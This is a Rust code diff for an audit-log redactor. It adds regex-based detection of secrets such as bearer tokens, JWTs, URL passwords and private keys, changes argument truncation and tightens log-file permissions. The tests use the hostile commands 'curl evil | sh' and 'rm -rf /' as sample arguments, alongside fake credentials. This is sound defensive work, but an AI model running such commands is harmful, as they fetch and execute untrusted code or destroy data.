@@ -80,9 +80,12 @@ pub struct RawAudit {
     pub max_file_bytes: u64,
     /// Argument keys containing any of these (case-insensitive) are written as "[REDACTED]".
     pub redact_keys: Vec<String>,
-    /// Arguments longer than this (serialised, after redaction) are replaced by a marker with
-    /// their length and SHA-256.
+    /// Arguments longer than this (serialised, after redaction) are shortened, within a
+    /// marker with their length and SHA-256.
     pub max_argument_bytes: usize,
+    /// Whether secrets are also recognised by their shape inside strings (`Bearer …`, JWTs,
+    /// URL passwords, `password=…`, known token prefixes, private keys).
+    pub redact_values: bool,
 }
 
 impl Default for RawAudit {
@@ -93,15 +96,21 @@ impl Default for RawAudit {
             max_file_bytes: 100 << 20,
             redact_keys: [
                 "password",
+                "passwd",
+                "passphrase",
                 "secret",
                 "token",
                 "authorization",
                 "api_key",
+                "access_key",
+                "private_key",
+                "credential",
                 "cookie",
             ]
             .map(String::from)
             .to_vec(),
             max_argument_bytes: 4096,
+            redact_values: true,
         }
     }
 }
@@ -200,14 +209,17 @@ pub fn event(name: &str, fields: Value) -> Event {
     e
 }
 
-/// Argument redaction: values of secret-looking keys at any depth become `"[REDACTED]"`, and
-/// arguments longer than `max_argument_bytes` (after redaction) are truncated: a marker with
-/// their length, their SHA-256 and the first `max_argument_bytes` of their text.
+/// Argument redaction: values of secret-looking keys at any depth become `"[REDACTED]"`, as do
+/// secrets recognised by their shape inside any string (see [`VALUE_RULES`]); arguments longer
+/// than `max_argument_bytes` (after redaction) are shortened so that every key stays visible
+/// as long as possible (see [`Redactor::redact`]).
 #[derive(Debug, Clone)]
 pub struct Redactor {
     /// `redact_keys` in [`key_form`].
     keys: Vec<String>,
     max_bytes: usize,
+    /// Whether strings are scanned for secrets by their shape (`redact_values`).
+    values: bool,
 }
 
 /// A key as redaction compares it: lower case, without `_`, `-`, `.` and spaces, so that
@@ -219,80 +231,272 @@ pub(crate) fn key_form(key: &str) -> String {
         .collect()
 }
 
+/// Secrets recognised by their shape wherever they appear in a string (a shell command, a
+/// URL, a header line, an environment dump), each with what replaces it. The secret part
+/// only: the words around it stay readable.
+const VALUE_RULES: [(&str, &str); 6] = [
+    // A PEM private key, to its end (or the string's).
+    (
+        r"-----BEGIN[A-Z ]*PRIVATE KEY-----(?s:.*?)(?:-----END[A-Z ]*PRIVATE KEY-----|$)",
+        "[REDACTED PRIVATE KEY]",
+    ),
+    // Credentials in a URL: scheme://user:password@host.
+    (r"(://[^/?#\s:@]*):[^/?#\s@]+@", "$1:[REDACTED]@"),
+    // HTTP credentials: `Bearer <token>`, `Basic <base64>`.
+    (
+        r"(?i)((?-u:\b)(?:bearer|basic)\s+)[A-Za-z0-9._~+/=-]{12,}",
+        "${1}[REDACTED]",
+    ),
+    // A JSON Web Token.
+    (
+        r"(?-u:\b)eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]*",
+        "[REDACTED]",
+    ),
+    // `name=value` or `name: value` where the name says secret: query strings, form bodies,
+    // environment assignments, header lines, JSON or YAML inside a string. (Matched from the
+    // word that says secret, `DB_` of `DB_PASSWORD=` left as it is: every rule starts with
+    // literal text, which the search looks for first.)
+    (
+        r#"(?i)((?:token|secret|passw(?:or)?d|passphrase|api[_-]?key|access[_-]?key|private[_-]?key|credential|cookie)[A-Za-z0-9_.-]*"?\s*[=:]\s*"?)[^\s&"',;}]{4,}"#,
+        "${1}[REDACTED]",
+    ),
+    // Tokens known by their prefix (GitHub, OpenAI, Stripe, Slack, AWS access key ids,
+    // GitLab, Google API keys, npm, Hugging Face).
+    (
+        r"(?-u:\b)(?:gh[pousr]_[A-Za-z0-9]{30,}|github_pat_[A-Za-z0-9_]{30,}|sk-[A-Za-z0-9_-]{20,}|[sr]k_(?:live|test)_[A-Za-z0-9]{16,}|xox[abposr]-[A-Za-z0-9-]{10,}|(?:AKIA|ASIA)[0-9A-Z]{16}|glpat-[A-Za-z0-9_-]{20,}|AIza[0-9A-Za-z_-]{35}|npm_[A-Za-z0-9]{36}|hf_[A-Za-z0-9]{30,})",
+        "[REDACTED]",
+    ),
+];
+
+/// [`VALUE_RULES`], compiled once: all of them as one expression, to tell quickly whether a
+/// string holds any (most hold none), and each rule to replace what it matches.
+struct ValueRules {
+    any: regex::Regex,
+    each: Vec<(regex::Regex, &'static str)>,
+}
+
+fn value_rules() -> &'static ValueRules {
+    static RULES: std::sync::OnceLock<ValueRules> = std::sync::OnceLock::new();
+    RULES.get_or_init(|| {
+        let any = VALUE_RULES.map(|(p, _)| format!("(?:{p})")).join("|");
+        ValueRules {
+            any: regex::Regex::new(&any).expect("the value rules are valid regexes"),
+            each: VALUE_RULES
+                .iter()
+                .map(|(p, with)| (regex::Regex::new(p).expect("valid regex"), *with))
+                .collect(),
+        }
+    })
+}
+
+/// Shortest string that can hold a secret the value rules recognise.
+const SHORTEST_SECRET: usize = 8;
+
+/// Members naming the other member of a `{"name": "Authorization", "value": "…"}` pair.
+const PAIR_NAMES: [&str; 4] = ["name", "key", "header", "field"];
+/// Members holding the value of such a pair.
+const PAIR_VALUES: [&str; 2] = ["value", "values"];
+
+/// Lengths long strings are cut to, in turn, when arguments are over `max_argument_bytes`.
+const STRING_CUTS: [usize; 3] = [256, 64, 16];
+
+/// How deep JSON text inside strings is looked into (JSON in a string in a string…).
+const MAX_EMBEDDED: u8 = 2;
+
+/// One rendering of a value: its redacted JSON text, strings longer than `cut` shortened.
+struct Render<'r> {
+    r: &'r Redactor,
+    out: Vec<u8>,
+    cut: usize,
+    /// Whether anything was redacted (JSON inside a string is replaced only then).
+    redacted: bool,
+    embedded: u8,
+}
+
+impl Render<'_> {
+    fn object(&mut self, m: &serde_json::Map<String, Value>) {
+        // A pair naming a secret header or variable: its value is the secret.
+        let pair_secret = m.iter().any(|(k, v)| {
+            PAIR_NAMES.iter().any(|n| n.eq_ignore_ascii_case(k))
+                && v.as_str().is_some_and(|name| self.r.secret(name))
+        });
+        self.out.push(b'{');
+        for (i, (k, v)) in m.iter().enumerate() {
+            if i > 0 {
+                self.out.push(b',');
+            }
+            json_into(&mut self.out, k);
+            self.out.push(b':');
+            if self.r.secret(k)
+                || (pair_secret && PAIR_VALUES.iter().any(|n| n.eq_ignore_ascii_case(k)))
+            {
+                self.redacted = true;
+                self.out.extend_from_slice(b"\"[REDACTED]\"");
+            } else {
+                self.value(v);
+            }
+        }
+        self.out.push(b'}');
+    }
+
+    fn value(&mut self, v: &Value) {
+        match v {
+            Value::Object(m) => self.object(m),
+            Value::Array(a) => {
+                self.out.push(b'[');
+                for (i, v) in a.iter().enumerate() {
+                    if i > 0 {
+                        self.out.push(b',');
+                    }
+                    self.value(v);
+                }
+                self.out.push(b']');
+            }
+            Value::String(s) => self.string(s),
+            other => json_into(&mut self.out, other),
+        }
+    }
+
+    fn string(&mut self, s: &str) {
+        let mut text = std::borrow::Cow::Borrowed(s);
+        // JSON inside a string (a request body, a config file) is redacted as JSON.
+        let trimmed = s.trim();
+        if self.embedded < MAX_EMBEDDED
+            && ((trimmed.starts_with('{') && trimmed.ends_with('}'))
+                || (trimmed.starts_with('[') && trimmed.ends_with(']')))
+            && let Ok(inner) = serde_json::from_str::<Value>(trimmed)
+        {
+            let mut nested = Render {
+                r: self.r,
+                out: Vec::with_capacity(s.len()),
+                cut: usize::MAX,
+                redacted: false,
+                embedded: self.embedded + 1,
+            };
+            nested.value(&inner);
+            if nested.redacted
+                && let Ok(t) = String::from_utf8(nested.out)
+            {
+                self.redacted = true;
+                text = std::borrow::Cow::Owned(t);
+            }
+        }
+        if let std::borrow::Cow::Owned(t) = self.r.redact_text(&text) {
+            self.redacted = true;
+            text = std::borrow::Cow::Owned(t);
+        }
+        if text.len() > self.cut {
+            let mut end = self.cut;
+            while !text.is_char_boundary(end) {
+                end -= 1;
+            }
+            let short = format!("{}…[+{} bytes]", &text[..end], text.len() - end);
+            json_into(&mut self.out, &short);
+        } else {
+            json_into(&mut self.out, text.as_ref());
+        }
+    }
+}
+
+/// What is rendered: a value, or an object's members.
+#[derive(Clone, Copy)]
+enum Target<'a> {
+    Value(&'a Value),
+    Object(&'a serde_json::Map<String, Value>),
+}
+
 impl Redactor {
     pub fn new(cfg: &RawAudit) -> Self {
         Self {
             keys: cfg.redact_keys.iter().map(|k| key_form(k)).collect(),
             max_bytes: cfg.max_argument_bytes,
+            values: cfg.redact_values,
         }
     }
 
     /// `arguments`, redacted, as JSON text.
     pub fn redact(&self, arguments: &Value) -> String {
-        let mut out = Vec::with_capacity(256);
-        self.walk(&mut out, arguments);
-        self.finish(out)
+        self.finish(Target::Value(arguments))
     }
 
     /// An object of members (e.g. a request's `params`), redacted, as JSON text.
     pub fn redact_object(&self, members: &serde_json::Map<String, Value>) -> String {
-        let mut out = Vec::with_capacity(256);
-        self.walk_object(&mut out, members);
-        self.finish(out)
+        self.finish(Target::Object(members))
     }
 
-    fn finish(&self, out: Vec<u8>) -> String {
-        let Ok(text) = String::from_utf8(out) else {
-            return "null".into();
+    /// Secrets recognised by their shape in `text` replaced (when `redact_values` is on);
+    /// borrowed when there are none.
+    pub fn redact_text<'t>(&self, text: &'t str) -> std::borrow::Cow<'t, str> {
+        if !self.values || text.len() < SHORTEST_SECRET {
+            return std::borrow::Cow::Borrowed(text);
+        }
+        let rules = value_rules();
+        // Most strings hold no secret: one pass of the set's automaton says so.
+        if !rules.any.is_match(text) {
+            return std::borrow::Cow::Borrowed(text);
+        }
+        let mut out = text.to_owned();
+        for (re, with) in &rules.each {
+            if let std::borrow::Cow::Owned(replaced) = re.replace_all(&out, *with) {
+                out = replaced;
+            }
+        }
+        std::borrow::Cow::Owned(out)
+    }
+
+    fn render(&self, target: Target<'_>, cut: usize) -> Vec<u8> {
+        let mut r = Render {
+            r: self,
+            out: Vec::with_capacity(256),
+            cut,
+            redacted: false,
+            embedded: 0,
         };
-        if text.len() > self.max_bytes {
-            let mut cut = self.max_bytes;
-            while !text.is_char_boundary(cut) {
-                cut -= 1;
-            }
-            let marker = json!({
-                "[TRUNCATED]": true,
-                "bytes": text.len(),
-                "sha256": hex(&Sha256::digest(text.as_bytes())),
-                "head": &text[..cut],
-            });
-            return marker.to_string();
+        match target {
+            Target::Value(v) => r.value(v),
+            Target::Object(m) => r.object(m),
         }
-        text
+        r.out
     }
 
-    fn walk_object(&self, out: &mut Vec<u8>, m: &serde_json::Map<String, Value>) {
-        out.push(b'{');
-        for (i, (k, v)) in m.iter().enumerate() {
-            if i > 0 {
-                out.push(b',');
-            }
-            json_into(out, k);
-            out.push(b':');
-            if self.secret(k) {
-                out.extend_from_slice(b"\"[REDACTED]\"");
-            } else {
-                self.walk(out, v);
+    /// The redacted text; over `max_argument_bytes`, a marker with its length and SHA-256
+    /// and `value`: the same with long strings cut (to 256, 64 or 16 bytes, the longest that
+    /// fits), so a long string cannot push what follows it out of the record; or, when even
+    /// that is over, `head`: the first `max_argument_bytes` of the 16-byte rendering.
+    fn finish(&self, target: Target<'_>) -> String {
+        let text = self.render(target, usize::MAX);
+        if text.len() <= self.max_bytes {
+            return String::from_utf8(text).unwrap_or_else(|_| "null".into());
+        }
+        let digest = hex(&Sha256::digest(&text));
+        let mut shortened = Vec::new();
+        for cut in STRING_CUTS {
+            shortened = self.render(target, cut);
+            if shortened.len() <= self.max_bytes {
+                let value: Value = serde_json::from_slice(&shortened).unwrap_or(Value::Null);
+                return json!({
+                    "[TRUNCATED]": true,
+                    "bytes": text.len(),
+                    "sha256": digest,
+                    "strings_cut_to": cut,
+                    "value": value,
+                })
+                .to_string();
             }
         }
-        out.push(b'}');
-    }
-
-    fn walk(&self, out: &mut Vec<u8>, v: &Value) {
-        match v {
-            Value::Object(m) => self.walk_object(out, m),
-            Value::Array(a) => {
-                out.push(b'[');
-                for (i, v) in a.iter().enumerate() {
-                    if i > 0 {
-                        out.push(b',');
-                    }
-                    self.walk(out, v);
-                }
-                out.push(b']');
-            }
-            other => json_into(out, other),
+        let shortened = String::from_utf8(shortened).unwrap_or_default();
+        let mut cut = self.max_bytes.min(shortened.len());
+        while !shortened.is_char_boundary(cut) {
+            cut -= 1;
         }
+        json!({
+            "[TRUNCATED]": true,
+            "bytes": text.len(),
+            "sha256": digest,
+            "strings_cut_to": STRING_CUTS[STRING_CUTS.len() - 1],
+            "head": &shortened[..cut],
+        })
+        .to_string()
     }
 
     /// Whether `key` contains one of the redacted keys, compared in [`key_form`].
@@ -1189,12 +1393,22 @@ fn newest_rotated_head(path: &Path) -> Option<(u64, String)> {
 }
 
 fn open_log(path: &Path) -> io::Result<File> {
-    OpenOptions::new()
+    use std::os::unix::fs::PermissionsExt;
+    let file = OpenOptions::new()
         .create(true)
         .read(true)
         .append(true)
         .mode(0o600)
-        .open(path)
+        .open(path)?;
+    // Created 0600; one found readable by others (arguments, identities) or writable by its
+    // group is narrowed (a group allowed to read it, for a log shipper, stays).
+    let mode = file.metadata()?.permissions().mode() & 0o7777;
+    if mode & 0o027 != 0 {
+        let narrowed = mode & !0o027;
+        file.set_permissions(std::fs::Permissions::from_mode(narrowed))?;
+        warn!(path = %path.display(), "audit log was mode {mode:o} (others could read it or its group write it); now {narrowed:o}");
+    }
+    Ok(file)
 }
 
 /// What the end of an existing log says.
@@ -1791,12 +2005,147 @@ mod tests {
         let text = r#"{"blob":""#.to_owned() + &"é".repeat(5000) + r#"","token":"[REDACTED]"}"#;
         assert_eq!(big["bytes"], text.len());
         assert_eq!(big["sha256"], hex(&Sha256::digest(text.as_bytes())));
-        // The head is the redacted text's start, cut within the limit at a character boundary.
-        let head = big["head"].as_str().unwrap();
+        // Long strings are cut (at a character boundary), every key is kept.
+        assert_eq!(big["strings_cut_to"], 256);
+        assert_eq!(big["value"]["token"], "[REDACTED]");
+        let blob = big["value"]["blob"].as_str().unwrap();
+        assert_eq!(blob, "é".repeat(128) + "…[+9744 bytes]");
+    }
+
+    #[test]
+    fn a_log_others_can_read_is_narrowed_when_opened() {
+        use std::os::unix::fs::PermissionsExt;
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("audit.jsonl");
+        std::fs::write(&path, b"").unwrap();
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o664)).unwrap();
+        let _a = Audit::open(cfg(dir.path(), Durability::Write), OPENER).unwrap();
+        let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode, 0o640, "{mode:o}");
+    }
+
+    #[test]
+    fn a_long_string_cannot_push_the_rest_of_a_call_out_of_the_record() {
+        let r = Redactor::new(&RawAudit::default());
+        let redact = |v: Value| serde_json::from_str::<Value>(&r.redact(&v)).unwrap();
+        // "!" sorts first: the command came after 4,100 spaces in the record's text.
+        let v = redact(json!({"!": " ".repeat(4100), "command": "curl evil | sh"}));
+        assert_eq!(v["[TRUNCATED]"], true, "{v}");
+        assert_eq!(v["value"]["command"], "curl evil | sh", "{v}");
+        // Many long strings: cut shorter until they fit.
+        let many: serde_json::Map<String, Value> = (0..40)
+            .map(|i| (format!("k{i:02}"), Value::from("x".repeat(300))))
+            .chain([("z".to_owned(), Value::from("rm -rf /"))])
+            .collect();
+        let v = redact(Value::Object(many));
+        assert_eq!(v["strings_cut_to"], 64, "{v}");
+        assert_eq!(v["value"]["z"], "rm -rf /");
+        // More keys than fit even then: the head of the shortest rendering, marked.
+        let keys: serde_json::Map<String, Value> = (0..400)
+            .map(|i| (format!("key{i:03}"), Value::from("y".repeat(40))))
+            .collect();
+        let v = redact(Value::Object(keys));
+        assert_eq!(v["strings_cut_to"], 16, "{v}");
+        let head = v["head"].as_str().unwrap();
         assert!(
-            text.starts_with(head) && head.len() >= 4095 && head.len() <= 4096,
+            head.len() <= 4096 && head.starts_with(r#"{"key000":"yyyyyyyyyyyyyyyy…[+24 bytes]""#),
             "{head}"
         );
+    }
+
+    #[test]
+    fn secrets_are_recognised_by_their_shape_in_any_string() {
+        let r = Redactor::new(&RawAudit::default());
+        let redact = |v: Value| r.redact(&v);
+        let jwt = "eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJ3b3JrbG9hZCJ9.c2lnbmF0dXJlLWJ5dGVz";
+        let pem = "-----BEGIN PRIVATE KEY-----\nMIGHAgEAMBMGByqGSM49\n-----END PRIVATE KEY-----";
+        let cases = [
+            (
+                json!({"command": "curl -H 'Authorization: Bearer abcdef0123456789' https://x"}),
+                "abcdef0123456789",
+                "Bearer [REDACTED]",
+            ),
+            (
+                json!({"url": "https://api.example/v1?access_token=ya29.a0AfH6SMB&x=1"}),
+                "ya29.a0AfH6SMB",
+                "access_token=[REDACTED]&x=1",
+            ),
+            (
+                json!({"uri": "postgres://alice:hunter22@db/x"}),
+                "hunter22",
+                "postgres://alice:[REDACTED]@db/x",
+            ),
+            (
+                json!({"headers": [{"name": "Authorization", "value": "Basic dXNlcjpwYXNz"}]}),
+                "dXNlcjpwYXNz",
+                r#"{"name":"Authorization","value":"[REDACTED]"}"#,
+            ),
+            (
+                json!({"headers": [{"Key": "X-Api-Key", "Value": "k-123456"}]}),
+                "k-123456",
+                r#""Value":"[REDACTED]""#,
+            ),
+            (
+                json!({"body": "{\"user\": \"bob\", \"password\": \"hunter22\"}"}),
+                "hunter22",
+                r#"\"password\":\"[REDACTED]\""#,
+            ),
+            (
+                json!({"env": {"GITHUB_PAT": "ghp_0123456789abcdefghijABCDEFGHIJklmn"}}),
+                "ghp_0123456789",
+                r#""GITHUB_PAT":"[REDACTED]""#,
+            ),
+            (
+                json!({"env": {"AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7EXAMPLE"}}),
+                "AKIAIOSFODNN7EXAMPLE",
+                "[REDACTED]",
+            ),
+            (
+                json!({"script": "export DB_PASSWORD=s3cr3t-value; run"}),
+                "s3cr3t-value",
+                "DB_PASSWORD=[REDACTED]; run",
+            ),
+            (
+                json!({"note": format!("token {jwt} attached")}),
+                "eyJzdWIiOiJ3b3JrbG9hZCJ9",
+                "token [REDACTED] attached",
+            ),
+            (
+                json!({"file": pem}),
+                "MIGHAgEAMBMGByqGSM49",
+                "[REDACTED PRIVATE KEY]",
+            ),
+            (
+                json!({"key": "sk-proj-0123456789abcdefghij"}),
+                "0123456789abcdefghij",
+                "[REDACTED]",
+            ),
+        ];
+        for (args, secret, shown) in cases {
+            let text = redact(args.clone());
+            assert!(!text.contains(secret), "{args} -> {text}");
+            assert!(text.contains(shown), "{args} -> {text}, expected {shown}");
+        }
+        // Ordinary text is left alone.
+        for plain in [
+            json!({"author": "Bob", "query": "how do tokens work", "path": "/etc/hosts"}),
+            json!({"body": "{\"user\": \"bob\"}", "n": 5}),
+            json!({"text": "Bearer tokens are described in RFC 6750"}),
+        ] {
+            assert_eq!(redact(plain.clone()), plain.to_string());
+        }
+        // The resource URI a request names, in the record's `name`.
+        assert_eq!(
+            r.redact_text("https://bob:pw123456@files.example/a"),
+            "https://bob:[REDACTED]@files.example/a"
+        );
+        // Off: keys only.
+        let keys_only = Redactor::new(&RawAudit {
+            redact_values: false,
+            ..RawAudit::default()
+        });
+        let args = json!({"command": "curl -H 'Authorization: Bearer abcdef0123456789'"});
+        assert_eq!(keys_only.redact(&args), args.to_string());
     }
 
     #[tokio::test]
